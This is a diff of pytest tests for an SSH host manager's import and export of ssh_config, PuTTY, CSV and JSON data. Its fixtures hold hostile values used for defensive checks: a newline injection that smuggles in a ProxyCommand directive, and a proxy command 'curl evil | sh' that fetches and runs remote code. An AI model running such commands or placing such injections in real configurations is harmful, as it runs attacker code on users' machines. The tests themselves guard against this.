@@ -5,18 +5,23 @@ from __future__ import annotations
 import csv
 import io
 import json
+import os
+import pwd
 import subprocess
 from collections.abc import Callable
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
 
 from sshtui.cli.run import run
 from sshtui.model.hosts import Forward, Host
+from sshtui.model.terminal_switches import TerminalSwitches
 from sshtui.store.exporters import to_csv, to_json, to_putty, to_ssh_config
 from sshtui.store.host_tables import from_table
 from sshtui.store.hosts import HostStore
 from sshtui.store.importers.plan import FORMATS, plan, to_save
+from sshtui.store.ssh_config_options import FIELDS, FIELDS_IN_FILE
 
 HOSTS = (
     Host("plain", "10.0.0.5"),
@@ -64,6 +69,7 @@ FURTHER = {
     "certificate_files": ["~/c/100%-cert.pub", "/c/with space-cert.pub"],
     "identity_files": ["~/k/one", "~/k/two"],
     "identities_only": True,
+    "identity_agent": "~/agent sock",
     "agent_forwarding": True,
     "host_key_alias": "cluster",
     "known_hosts_files": ["/k/h", "/k/with space"],
@@ -79,6 +85,13 @@ FURTHER = {
     "send_environment": ["LC_*", "TZ"],
     "set_environment": {"A": "1", "B": "two words"},
     "proxy": "socks5://never:1",
+    "gssapi_authentication": True,
+    "hash_known_hosts": True,
+    "hostbased_authentication": False,
+    "verify_host_key_dns": "ask",
+    "revoked_host_keys": "/k/revoked",
+    "pkcs11_provider": "/lib/token.so",
+    "login_methods": ["publickey", "password"],
     "unheard_of": "Port 1",
 }
 
@@ -88,7 +101,14 @@ def test_what_stands_in_further_fields_and_folders_goes_along(
 ) -> None:
     monkeypatch.setenv("SSHTUI_CONFIG_DIR", str(tmp_path))
     store, out = HostStore(tmp_path / "hosts.toml"), tmp_path / "out"
-    evil = {"host_key_alias": "x\nProxyCommand evil", "proxy_command": ["x"], "ciphers": 0}
+    evil = {
+        "host_key_alias": "x\nProxyCommand evil",
+        "proxy_command": ["x"],
+        "ciphers": 0,
+        "address_family": "inet7",
+        "strict_host_key_checking": "maybe",
+        "connect_timeout": "soon",
+    }
     store.put_all([Host("box", "h", folder="prod", key_pair="~/k/one", extra=FURTHER), Host("bad", "h", extra=evil)])
     store.put_folder("prod", {"user": "deploy", "port": 2222})
     assert run(["export", "ssh_config", "--out", str(out)]) == 0
@@ -97,14 +117,18 @@ def test_what_stands_in_further_fields_and_folders_goes_along(
         command = [need("ssh"), "-G", "-F", str(out), "--", name]
         return set(subprocess.run(command, capture_output=True, text=True, check=True).stdout.splitlines())
 
+    home = pwd.getpwuid(os.getuid()).pw_dir
     assert told("box") >= {
         "user deploy", "port 2222", "proxycommand nc -x proxy %h %p", "certificatefile ~/c/100%%-cert.pub",
         "certificatefile /c/with space-cert.pub", "identityfile ~/k/one", "identityfile ~/k/two",
-        "identitiesonly yes", "forwardagent yes", "hostkeyalias cluster", "userknownhostsfile /k/h /k/with space",
+        "identitiesonly yes", f"identityagent {home}/agent sock",
+        "forwardagent yes", "hostkeyalias cluster", "userknownhostsfile /k/h /k/with space",
         "stricthostkeychecking accept-new", "addkeystoagent confirm 300", "addressfamily inet6",
         "bindaddress 127.0.0.2", "ciphers aes256-ctr", "kexalgorithms curve25519-sha256", "macs hmac-sha2-256",
         "hostkeyalgorithms ssh-ed25519", "connecttimeout 7", "sendenv LC_*", "sendenv TZ", "setenv A=1",
-        "setenv B=two words",
+        "setenv B=two words", "gssapiauthentication yes", "hashknownhosts yes", "hostbasedauthentication no",
+        "verifyhostkeydns ask", "revokedhostkeys /k/revoked", "pkcs11provider /lib/token.so",
+        "preferredauthentications publickey,password",
     }  # fmt: skip
     assert "proxycommand" not in " ".join(told("bad"))
     assert "# proxy of sshtui has no keyword" in out.read_text()
@@ -112,20 +136,38 @@ def test_what_stands_in_further_fields_and_folders_goes_along(
     assert '"UserName"="deploy"' in (tmp_path / "reg").read_text()
 
 
+def test_every_followed_keyword_that_has_a_field_goes_along() -> None:
+    assert {field for field, _ in FIELDS.values() if field} <= FIELDS_IN_FILE.keys()
+
+
 def test_putty_sessions_come_back_whole(tmp_path: Path) -> None:
     path = tmp_path / "sessions.reg"
-    path.write_bytes(to_putty(HOSTS).encode())
+    proxied = Host("proxied", "h", extra={"proxy": "socks5://proxy:9999"})
+    behind = Host("behind", "h", jump="nowhere,six")
+    path.write_bytes(to_putty((*HOSTS, proxied, behind)).encode())
     back = FORMATS["putty"](path).hosts
     assert [(host.name, host.destination, host.command, host.keep_alive, host.forwards) for host in back] == [
-        (host.name, host.destination, host.command, host.keep_alive, host.forwards) for host in HOSTS
+        (host.name, host.destination, host.command, host.keep_alive, host.forwards)
+        for host in (*HOSTS, proxied, behind)
     ]
+    assert [host.jump for host in back] == ["", "me@gate:2200", "", "", "me@corp@fe80::1"]
+    assert [dict(host.extra) for host in back[3:]] == [{"proxy": "socks5://proxy:9999"}, {}]
 
 
-@pytest.mark.parametrize("format", ["csv", "json"])
-def test_tables_come_back_whole(tmp_path: Path, format: str) -> None:
+def test_json_comes_back_whole_without_secrets(tmp_path: Path) -> None:
     path = tmp_path / "table"
-    path.write_text({"csv": to_csv, "json": to_json}[format](HOSTS[:1] + HOSTS[2:]))
-    assert to_save(plan(FORMATS[format](path), ())) == HOSTS[:1] + HOSTS[2:]
+    secrets = {"password": "keyring:1", "proxy_command": "nc %h %p", "danger": True}
+    hosts = (*HOSTS, Host("last", "h", favourite=True, terminal=TerminalSwitches(backspace="bs"), extra=secrets))
+    path.write_text(to_json(hosts))
+    kept = {name: value for name, value in secrets.items() if name != "password"}
+    assert to_save(plan(FORMATS["json"](path), ())) == (*HOSTS, replace(hosts[-1], extra=kept))
+
+
+def test_a_table_comes_back_whole_but_for_its_forwards(tmp_path: Path) -> None:
+    path = tmp_path / "table"
+    hosts = (*HOSTS, Host("last", "h", keep_alive=0, theme="nord", colour="red", favourite=True))
+    path.write_text(to_csv(hosts))
+    assert to_save(plan(FORMATS["csv"](path), ())) == tuple(replace(host, forwards=()) for host in hosts)
 
 
 def test_json_holds_every_field() -> None:
@@ -157,3 +199,13 @@ def test_importing_asks_first_and_export_never_replaces_unasked(
     assert run(["export", "json", "--out", str(tmp_path / "out")]) == 2
     assert (tmp_path / "out").read_text().startswith("Host 10.0.0.5\n")
     assert "Include" in capsys.readouterr().err
+
+
+def test_what_an_import_would_run_here_is_shown_before_anybody_agrees(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    monkeypatch.setenv("SSHTUI_CONFIG_DIR", str(tmp_path))
+    source = tmp_path / "hosts.json"
+    source.write_text(to_json([Host("a", "h", extra={"proxy_command": "curl evil | sh", "pkcs11_provider": "/x.so"})]))
+    assert run(["import", "json", str(source), "--dry-run"]) == 0
+    assert "runs on this computer: curl evil | sh, /x.so" in capsys.readouterr().out
